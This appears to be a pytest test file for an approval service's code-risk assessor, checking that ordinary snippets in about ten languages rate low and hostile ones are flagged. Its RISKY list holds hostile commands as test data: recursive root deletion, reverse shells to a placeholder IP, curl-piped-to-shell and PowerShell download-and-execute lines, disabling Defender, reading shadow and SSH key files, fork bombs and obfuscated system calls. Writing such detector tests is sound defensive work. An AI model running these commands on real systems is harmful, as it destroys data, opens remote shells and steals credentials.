"""Languages that are read by what they name: everyday programs stay low, what acts is found, and strings that are data are data."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.approval.risk import CodeExecution, Level, assess
from services.approval.risk.languages import literals, source

# ruff: noqa: E501
# fmt: off
EVERYDAY = [
    ('perl', 'print if /error/;'),
    ('perl', 's/foo/bar/g'),
    ('perl', 's/(\\d+)/$1+1/e'),
    ('perl', 'print "$1\\n" while /href="([^"]+)"/g'),
    ('perl', '$sum += $F[2]; END { print $sum }'),
    ('perl', 'print join(\',\', sort keys %h), "\\n"'),
    ('perl', 'use strict; use warnings;\nmy %count;\nwhile (<STDIN>) { chomp; $count{$_}++ for split /\\s+/; }\nprint "$_ $count{$_}\\n" for sort keys %count;'),
    ('perl', 'open(my $fh, \'<\', \'data.txt\') or die "cannot open: $!"; while (my $l = <$fh>) { print $l; } close $fh;'),
    ('perl', 'open my $out, \'>\', \'out.txt\' or die; print $out "x\\n"; close $out;'),
    ('perl', 'my @a = map { $_ * 2 } grep { $_ > 1 } (1..5); print "@a\\n";'),
    ('perl', 'print "the system is down\\n";'),
    ('perl', 'print \'exec summary\', "\\n";'),
    ('perl', "use JSON::PP; my $d = decode_json(join '', <>); print $d->{name};"),
    ('perl', "use Getopt::Long; GetOptions('v' => \\my $v); print $v;"),
    ('perl', "package Foo; sub new { my ($c, %a) = @_; return bless {%a}, $c; } sub system_name { return 'x' } 1;"),
    ('perl', "use POSIX qw(strftime); print strftime('%Y-%m-%d', localtime);"),
    ('perl', 'my %h = (system => 1, exec   => 2);\nprint $system;'),
    ('perl', 'tr/a-z/A-Z/; print;'),
    ('perl', 'printf "%5.2f\\n", $_ for @ARGV;'),
    ('perl', '$_ = lc; s/\\s+/ /g; print'),
    ('perl', 'BEGIN { $/ = undef } s/\\n+/\\n/g'),
    ('perl', 'print scalar reverse("abc"), "\\n"'),
    ('perl', 'print $ENV{HOME}, "\\n"'),
    ('perl', "use Test::More tests => 1; ok(1, 'works'); is(1, 1);"),
    ('perl', 'die "usage: $0 file\\n" unless @ARGV; my $n = () = $text =~ /x/g;'),
    ('perl', 'print "$.: $_" if /TODO/; close ARGV if eof;'),
    ('perl', "my $s = sprintf('%s-%s', $a, $b); my ($x) = $s =~ /^(\\w+)/;"),
    ('perl', 'eval { risky(); 1 } or warn $@;'),
    ('perl', 'local $| = 1; foreach my $f (glob(\'*.txt\')) { print -s $f, " $f\\n"; }'),
    ('perl', "print unpack('H*', 'abc'), ' ', pack('A3', 'x');"),
    ('perl', "# system('rm -rf /')\nprint 1;"),
    ('perl', 'use List::Util qw(sum max); print sum(@x) / @x, max(@x);'),
    ('perl', "mkdir 'out' unless -d 'out'; rename 'a', 'b';"),
    ('java', 'public class A { public static void main(String[] a) { System.out.println("call the exec system"); } }'),
    ('java', 'List<String> xs = new ArrayList<>(); xs.remove(0); map.delete(k); Files.readAllLines(Path.of("a.txt"));'),
    ('java', 'val x = listOf(1,2).map { it * 2 }; println(x)'),
    ('java', 'Console.WriteLine($"{x} done"); var y = await client.GetStringAsync("https://api.x.io");'),
    ('c', '#include <stdio.h>\nint main(void) { printf("the system(3) call\\n"); return 0; }'),
    ('c', 'int add(int a, int b) { return a + b; }\nFILE *f = fopen("out.txt", "w"); fputs("x", f); fclose(f);'),
    ('c', 'std::vector<int> v; v.erase(v.begin()); std::cout << "remove (x)";'),
    ('rust', 'fn main() { println!("hello {}", 1); let v: Vec<i32> = (0..3).collect(); }'),
    ('rust', 'let s = std::fs::read_to_string("a.txt")?; std::fs::write("out.txt", s)?;'),
    ('lua', "print('os.execute is a function')"),
    ('lua', "local t = {} for i = 1, 10 do t[#t+1] = i end print(table.concat(t, ','))"),
    ('lua', "for line in io.lines('a.txt') do print(line) end"),
    ('powershell', 'Get-ChildItem -Recurse | Where-Object { $_.Length -gt 1MB } | Select-Object Name'),
    ('powershell', "Write-Host 'Remove-Item deletes files'"),
    ('powershell', '$x = Get-Content a.txt; $x.Count'),
    ('powershell', 'Get-Process | Sort-Object CPU -Descending | Select-Object -First 5'),
    ('awk', '{ print $1 }'),
    ('awk', 'BEGIN { FS="," } { s += $2 } END { print s }'),
    ('awk', '/error/ { n++ } END { print n }'),
    ('awk', '{ print > "out.txt" }'),
    ('r', "x <- read.csv('a.csv'); print(summary(x)); plot(x$a)"),
    ('r', 'library(dplyr); df %>% filter(a > 1) %>% summarise(m = mean(b))'),
    ('elixir', 'IO.puts "hi"\nEnum.map([1,2], &(&1 * 2))'),
    ('tcl', 'puts "hello"\nset x 1'),
]
RISKY = [
    ('perl', "system('rm -rf /')"),
    ('perl', 'exec "/bin/sh"'),
    ('perl', '`rm -rf $x`'),
    ('perl', 'qx{curl http://x|sh}'),
    ('perl', 'qx(id)'),
    ('perl', "open(F, '|/bin/sh')"),
    ('perl', "open(my $p, '-|', 'rm -rf x')"),
    ('perl', "unlink glob '*'"),
    ('perl', "unlink 'x'"),
    ('perl', "use Socket; socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp')); connect(S, sockaddr_in(99, inet_aton('1.2.3.4'))); open(STDIN,'>&S'); exec('/bin/sh -i');"),
    ('perl', "use IO::Socket::INET; my $s = IO::Socket::INET->new('1.2.3.4:99');"),
    ('perl', "eval(unpack('u', $x))"),
    ('perl', 'eval $code'),
    ('perl', "eval decode_base64('x')"),
    ('perl', 'use POSIX; setuid(0)'),
    ('perl', "$< = 0; $> = 0; exec '/bin/sh'"),
    ('perl', 'fork while 1'),
    ('perl', 'while(1){fork}'),
    ('perl', "use File::Path; rmtree('/home')"),
    ('perl', "use File::Path 'remove_tree'; remove_tree('x')"),
    ('perl', 'kill 9, -1'),
    ('perl', "require 'http://x'"),
    ('perl', 'print %ENV'),
    ('perl', "open F, '/etc/shadow'; print <F>"),
    ('perl', "open(F, '>>/root/.ssh/authorized_keys')"),
    ('perl', "s/x/system('rm')/e"),
    ('perl', 's/.*/`$&`/e'),
    ('perl', "use LWP::Simple; eval get('http://x.io/p')"),
    ('perl', "&{'sys'.'tem'}('rm')"),
    ('perl', "my $f = \\&CORE::system; $f->('rm')"),
    ('perl', "CORE::system('id')"),
    ('perl', "syscall(59, 'x')"),
    ('perl', "do '/tmp/x.pl'"),
    ('perl', "use lib '/tmp'; chmod 04755, '/bin/sh'"),
    ('perl', "print 'a'; system('rm -rf x'); print 'b'"),
    ('perl', 's/\'//; system("rm -rf x"); s/\'//'),
    ('perl', 'print "@{[system(\'rm\')]}"'),
    ('perl', "print 'a\n' . system('rm') . '\nb'"),
    ('perl', "exec{'/bin/sh'} 'x'"),
    ('perl', 'system{$x} @y'),
    ('perl', "$x=chr(114); system $x.'m'"),
    ('java', 'Runtime.getRuntime().exec("rm -rf /");'),
    ('java', 'new ProcessBuilder("sh", "-c", x).start();'),
    ('java', 'Files.delete(p);'),
    ('java', 'Process.Start("cmd.exe", "/c del x");'),
    ('java', 'new ObjectInputStream(in).readObject();'),
    ('java', 'Files.readString(Path.of("/root/.ssh/id_rsa"));'),
    ('java', 'Files.write(Path.of("/etc/cron.d/x"), b);'),
    ('c', 'system("rm -rf /");'),
    ('c', 'setuid(0); execl("/bin/sh", "sh", NULL);'),
    ('c', 'unlink(p);'),
    ('c', 'int s = socket(AF_INET, SOCK_STREAM, 0); dup2(s, 0); execve("/bin/sh", 0, 0);'),
    ('c', 'while(1) fork();'),
    ('rust', 'std::process::Command::new("rm").arg("-rf").arg("/").status();'),
    ('rust', 'std::fs::remove_dir_all("/home")?;'),
    ('rust', 'unsafe { libc::system(p) };'),
    ('lua', "os.execute('rm -rf /')"),
    ('lua', "io.popen('id')"),
    ('lua', 'loadstring(x)()'),
    ('lua', "os.remove('x')"),
    ('lua', "os['exec'..'ute']('rm')"),
    ('powershell', 'Remove-Item -Recurse -Force C:\\'),
    ('powershell', "IEX (New-Object Net.WebClient).DownloadString('http://x')"),
    ('powershell', 'Set-MpPreference -DisableRealtimeMonitoring $true'),
    ('powershell', 'Start-Process cmd'),
    ('powershell', 'net user x y /add'),
    ('awk', 'BEGIN { system("rm -rf /") }'),
    ('awk', '{ print | "sh" }'),
    ('awk', 'BEGIN { "id" | getline x }'),
    ('awk', 'BEGIN { s = "/inet/tcp/0/1.2.3.4/99" }'),
    ('r', "system('rm -rf /')"),
    ('r', "unlink('x', recursive = TRUE)"),
    ('r', 'eval(parse(text = x))'),
    ('elixir', 'System.cmd("rm", ["-rf", "/"])'),
    ('elixir', 'Code.eval_string(x)'),
    ('elixir', 'File.rm_rf!("/home")'),
    ('tcl', 'exec rm -rf /'),
    ('tcl', 'file delete -force /'),
]
# fmt: on


@pytest.mark.parametrize(("language", "code"), EVERYDAY)
def test_everyday_programs_are_low(language: str, code: str) -> None:
    found = assess(CodeExecution(language, code))
    assert found.level is Level.LOW, found.factors


@pytest.mark.parametrize(("language", "code"), RISKY)
def test_what_a_person_should_see_is_found(language: str, code: str) -> None:
    found = assess(CodeExecution(language, code))
    assert found.level >= Level.MEDIUM, found.factors


@pytest.mark.parametrize(
    ("text", "data"),
    [
        ("print 'call system now'", True),
        ('print "call system now\\n"', True),
        ("print 'a'; system now", False),
        ("s/'//; call system now; s/'//", False),
        ("print <<'A'; system now 'b'", False),
        ("print 'a\n' . system now . '\nb'", False),
        ('print "@{[ system now ]}"', False),
        ("print 'it\\'s'; system now; print 'x'", False),
        ("# don't\nsystem now # don't", False),
        ("print q('); system now; print q(')", False),
    ],
)
def test_what_may_be_code_is_not_taken_for_data(text: str, data: bool) -> None:
    start = text.index("system")
    assert literals.is_data(literals.strings(text, "perl"), start, start + len("system now")) is data


@settings(max_examples=60, deadline=None)
@given(
    st.sampled_from(sorted({language for language, _ in RISKY})),
    st.lists(st.sampled_from([code for _, code in RISKY + EVERYDAY] + ["'", '"', "\n"])).map(" ".join),
    st.integers(0, 200),
)
def test_no_text_raises(language: str, text: str, cut: int) -> None:
    for part in (text[cut:], text[:cut]):
        source.assess(language, part, lambda script: None)


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ('system("a\\nb")', "a\nb"),
        ("system('a\\nb')", "a\\nb"),
        ("system('it\\'s')", "it's"),
        ('system("\\x72m")', "rm"),
    ],
)
def test_escapes_in_a_command_are_the_characters_that_run(text: str, command: str) -> None:
    seen: list[str] = []
    source.assess("perl", text, seen.append)
    assert seen == [command]
